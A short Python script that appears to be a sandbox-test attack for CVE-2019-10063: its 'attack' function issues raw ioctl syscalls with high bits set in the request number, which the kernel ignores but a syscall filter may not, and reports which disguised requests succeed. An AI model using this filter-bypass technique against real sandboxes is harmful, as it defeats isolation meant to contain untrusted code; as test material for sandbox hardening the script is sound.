"""Make a refused ioctl with a bit set that the kernel ignores and that a filter may not (CVE-2019-10063)."""
import ctypes
import os
import socket
import struct

SYS_IOCTL = {"x86_64": 16, "aarch64": 29}[os.uname().machine]
FIOSETOWN, FIOASYNC = 0x8901, 0x5452


def attack(target):
    libc = ctypes.CDLL(None, use_errno=True)
    ends = socket.socketpair()
    done = []
    with ends[0], ends[1]:
        for request, value in ((FIOSETOWN, os.getpid()), (FIOASYNC, 0)):
            for disguise in (1 << 32, 1 << 63):
                argument = struct.pack("=i", value)
                if libc.syscall(SYS_IOCTL, ends[0].fileno(), ctypes.c_ulong(request | disguise), argument) == 0:
                    done.append(hex(request | disguise))
    return done
